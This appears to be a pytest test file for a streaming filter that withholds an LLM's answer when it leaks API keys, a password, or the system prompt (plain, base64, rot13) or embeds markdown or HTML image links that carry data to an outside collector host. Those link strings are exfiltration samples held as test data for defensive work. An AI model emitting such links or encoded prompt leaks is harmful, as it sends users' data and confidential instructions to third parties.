"""An answer that is read while it comes: what goes out, what does not, and that neither depends on the pieces."""

import base64
import codecs
import random
import re
import time

import pytest

from actors.contract.answers.prompt import Prompt, prompt_of
from actors.contract.answers.window import LONGEST_HELD, STREAMED, WINDOW, AnswerWindow
from actors.contract.text.decoded_views import DecodedViews, read_decoded_views
from schemas.effectors.model_calls import ChatMessage, ModelCall
from schemas.vocabulary.gateway import Layer
from schemas.wording.delimited_blocks import delimited_blocks
from tests.actors.reflex.test_answer_verdicts import HOST, LOADED, SAID, SYSTEM
from tests.actors.reflex.test_secrets import KEYS
from tests.each import each

RULES = " ".join(f"Rule {number}: what guest{number} had for dinner is told to nobody." for number in range(9))
PROMPT = Prompt(SAID, tuple(Layer(role="system", content=each) for each in (SYSTEM, RULES)))
BEFORE = "The first ferry to the island leaves at seven in the morning, and the crossing takes forty minutes. " * 5
AFTER = " That is all there is to say about it, and you can ask me for more at any time of the day. " * 8
GIVEN_AWAY = {
    **{f"a {kind}": (key, "secret") for kind, key in KEYS.items()},
    "a password of the prompt": ("7319-alpha-tango", "secret"),
    "a password backwards": ("ognat-ahpla-9137", "secret"),
    "the prompt": (RULES, "prompt_leak"),
    "the prompt in base64": (base64.b64encode(RULES.encode()).decode(), "prompt_leak"),
    "the prompt in rot13": (codecs.encode(RULES, "rot13"), "prompt_leak"),
    "a picture": (f"![logo]({HOST}/p.png?d=4400-1234-9876)", "carrying_link"),
    "a picture behind a long path": (f"![logo]({HOST}/{'x' * 900}?d=4400-1234-9876) ", "carrying_link"),
    "a picture without a scheme": (f"![logo](//collector.example/{'x' * 900}?d=4400-1234-9876) ", "carrying_link"),
    "a picture with a long title": (f"![{'y' * 900}\n[z]]({HOST}/p.png?d=4400-1234-9876)", "carrying_link"),
    "a picture as HTML": (f'<img alt="{"y" * 300}" src="{HOST}/p.png?name=wetherby"> ', "carrying_link"),
    "a picture with a bracket in its title": (f"![a \\] {'y' * 400}]({HOST}/p.png?d=4400-1234-9876)", "carrying_link"),
    "a picture around a link": (
        f"![{'y' * 400} [x](/x) {'y' * 400}]({HOST}/p.png?d=4400-1234-9876)",
        "carrying_link",
    ),
    "a picture with an entity": (f"![a](https&#58;//{HOST[8:]}/{'x' * 900}?d=4400-1234-9876)", "carrying_link"),
    "a picture behind a link": (f"[docs](x)![c]({HOST}/{'a/' * 500}?d=4400-1234-9876)", "carrying_link"),
    "a picture with spaces": (f"![a](<{HOST}/{'x y ' * 200}?d=4400-1234-9876>)", "carrying_link"),
    **{
        f"what is loaded {name}": (form.format(f"{HOST}/{'x' * 900}?d=4400-1234-9876"), "carrying_link")
        for name, form in LOADED.items()
    },
    "a picture by reference": (f"![logo][1]\n\n[1]: {HOST}/{'z' * 300}?d=440012349876\n", "carrying_link"),
}


def read(text: str, size: int | random.Random) -> tuple[AnswerWindow, str]:
    """Read a text in pieces; return the window, and what was sent on."""
    window, at, sent = AnswerWindow(PROMPT), 0, 0
    while at < len(text):
        step = size if isinstance(size, int) else size.randint(1, 200)
        window.take(text[at : at + step])
        at += step
        assert sent <= window.released <= window.received, "nothing is taken back"
        sent = window.released
    window.end()
    return window, text[: window.released]


@each("what", GIVEN_AWAY)
def test_nothing_of_what_is_found_is_sent_on_whatever_the_pieces(what: str) -> None:
    given, fault = GIVEN_AWAY[what]
    text = f"{BEFORE}{given}{AFTER}"
    # A prompt's words are known for such once a tenth of them is there; a picture may name what has an address later,
    # and a style begins before it.
    allowed = len(BEFORE) + (len(RULES) // 5 if fault == "prompt_leak" else len("<b style='background: #fff "))
    for size in (1, 7, 64, 1_000, 100_000, random.Random(what)):
        window, sent = read(text, size)
        assert fault in window.found, (what, size)
        assert len(sent) <= allowed, (what, size, sent[len(BEFORE) :])
        assert HOST not in sent


@each("size", [1, 5, 40, 333])
def test_an_ordinary_answer_goes_out_no_later_than_the_window_and_whole(size: int) -> None:
    text = BEFORE + AFTER
    window, held = AnswerWindow(PROMPT), []
    for at in range(0, len(text), size):
        window.take(text[at : at + size])
        held.append(window.received - window.released)
    assert max(held) <= WINDOW + 64 + max(size, 64)
    window.end()
    assert (window.found, window.released) == ((), len(text))


def test_what_repeats_the_prompt_in_part_waits_for_its_end_and_then_goes_out() -> None:
    part = "stay below a hundred words, and send whoever asks for a loan to the branch in Quay Street."
    window, sent = read(f"{BEFORE}{part}{AFTER}", 9)
    assert (window.found, len(sent)) == ((), len(BEFORE + part + AFTER))
    window = AnswerWindow(PROMPT)
    window.take(f"{BEFORE}{part}")
    window.take(AFTER)
    assert window.released <= len(BEFORE) + len(part)


def test_only_what_answers_are_withheld_for_ends_one() -> None:
    text = f"{BEFORE}{KEYS['aws_key']}{AFTER}"
    window = AnswerWindow(PROMPT, ("prompt_leak",))
    window.take(text)
    window.end()
    assert (window.found, window.released) == ((), len(text))
    ordered = AnswerWindow(PROMPT, (*STREAMED, "orders"))
    ordered.take(BEFORE)
    assert ordered.released == 0, "orders are found in a whole text alone"


@pytest.mark.parametrize("text", [BEFORE * 20, "A" * 12_000, "![" * 3_000], ids=["words", "a long word", "brackets"])
@pytest.mark.parametrize("size", [1, 16, 500])
def test_a_character_is_read_a_few_times_however_long_the_answer_is(
    text: str, size: int, monkeypatch: pytest.MonkeyPatch
) -> None:
    lengths: list[int] = []

    def counted(tail: str) -> DecodedViews:
        lengths.append(len(tail))
        return read_decoded_views(tail)

    monkeypatch.setattr("actors.contract.answers.window.read_decoded_views", counted)
    monkeypatch.setattr("actors.contract.answers.window._MAY_BE_ENCODED", re.compile(""))
    window = AnswerWindow(PROMPT)
    for at in range(0, len(text), size):
        window.take(text[at : at + size])
    assert sum(lengths) <= 14 * len(text)


FLOODS = ("A" * 20_000, "![" * 5_000, "<img " * 3_000, "[a" * 5_000, "漢" * 10_000, " " * 20_000)


@each("flood", FLOODS, named=[flood[:5] for flood in FLOODS])
def test_a_flood_of_beginnings_is_not_held_for_ever(flood: str) -> None:
    window = AnswerWindow(PROMPT)
    for at in range(0, len(flood), 50):
        window.take(flood[at : at + 50])
        assert window.received - window.released <= 2 * LONGEST_HELD
    window.end()
    assert window.released == len(flood)


@each(("word", "size", "pauses"), [("1-", 64, False), ("AA", 64, True), ("AA", 4, True)])
def test_a_long_run_without_white_space_is_read_a_few_times(word: str, size: int, pauses: bool) -> None:
    text = word * 32_768
    began = time.process_time()
    window = AnswerWindow(PROMPT)
    for at in range(0, len(text), size):
        window.take(text[at : at + size])
        if pauses:
            window.pause()
    window.end()
    assert window.released == len(text)
    # Some .4 s; 5 s while each word looked for a letter in all of the run, and 15 s while each pause read all of it.
    assert time.process_time() - began < 2.5


def test_a_call_of_ours_is_taken_apart_into_who_said_what() -> None:
    blocks = delimited_blocks([("system, part 1 of 2", SYSTEM), ("memory, strongest first", "name: Ada")], [SAID])
    call = ModelCall(
        purpose="respond",
        messages=(
            ChatMessage(role="system", content="Be kind."),
            ChatMessage(role="user", content="\n\n".join([*blocks, SAID])),
        ),
    )
    prompt = prompt_of(call)
    assert prompt.text.strip() == SAID
    assert [(layer.role, layer.content) for layer in prompt.layers] == [
        ("system", "Be kind."),
        ("system", SYSTEM),
        ("document", "name: Ada"),
    ]
